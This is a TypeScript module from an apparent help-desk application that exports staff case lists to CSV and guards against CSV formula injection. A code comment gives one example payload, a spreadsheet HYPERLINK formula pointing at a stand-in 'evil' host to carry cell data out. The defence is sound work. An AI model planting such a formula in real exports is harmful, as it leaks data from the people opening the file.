import type { CaseQueriesDeps } from '../portal/case-queries.js';
import type { WebSlice } from '../web-context.js';
import type { User } from '../../domain/entities.js';
import { requireStaff } from '../portal/access.js';
import { listCasesFor, type CaseListInput } from '../portal/case-queries.js';

/** What this module's use cases reach of the web context. */
export type CsvExportDeps = WebSlice<'organisations' | 'users', 'catalog', never> & CaseQueriesDeps;

/** An export holds at most 5 000 cases: a spreadsheet, not a backup (that is `pg_dump`/`.backup`). */
export const CSV_EXPORT_LIMIT = 5000;

/**
 * One CSV cell. A value starting with `=`, `+`, `-`, `@`, a tab or a carriage return (also after
 * leading spaces) is a formula to Excel and LibreOffice, and a subject like
 * `=HYPERLINK("http://evil/?"&A1)` would run when the file is opened; a leading `'` makes it text
 * (OWASP "CSV injection", W8). Every cell is quoted, quotes doubled (RFC 4180).
 */
export function csvCell(value: string | number | null | undefined): string {
  let s = value === null || value === undefined ? '' : String(value);
  if (/^[\s]*[=+\-@]/.test(s) || /^[\t\r]/.test(s)) s = `'${s}`;
  return `"${s.replace(/"/g, '""')}"`;
}

const HEADER = ['number', 'subject', 'status', 'channel', 'customer', 'customer_email', 'organisation', 'customer_no', 'product', 'version', 'assignee', 'created_at', 'last_activity_at', 'closed_at'];

/**
 * Staff: the case list (same filters as the desk: queue, status, q) as CSV, UTF-8 with a byte
 * order mark so that Excel shows umlauts, CRLF line ends.
 */
export async function casesCsv(ctx: CsvExportDeps, user: User, input: CaseListInput): Promise<string> {
  requireStaff(user);
  const cases = await listCasesFor(ctx, user, { ...input, limit: Math.min(input.limit ?? CSV_EXPORT_LIMIT, CSV_EXPORT_LIMIT) });
  const [users, organisations, products] = await Promise.all([ctx.store.users.list(), ctx.store.organisations.list(), ctx.web.catalog.products(true)]);
  const userById = new Map(users.map((u) => [u.id, u]));
  const orgById = new Map(organisations.map((o) => [o.id, o]));
  const productById = new Map(products.map((p) => [p.id, p]));
  const lines = [HEADER.map(csvCell).join(',')];
  for (const c of cases) {
    const customer = userById.get(c.customerId);
    const org = c.organisationId ? orgById.get(c.organisationId) : undefined;
    lines.push(
      [
        c.number, c.subject, c.status, c.channel, customer?.name, customer?.email, org?.name, org?.customerNo,
        c.productId ? productById.get(c.productId)?.name : null, c.version, c.assigneeId ? userById.get(c.assigneeId)?.name : null,
        c.createdAt, c.lastActivityAt, c.closedAt,
      ].map(csvCell).join(','),
    );
  }
  return `\uFEFF${lines.join('\r\n')}\r\n`;
}
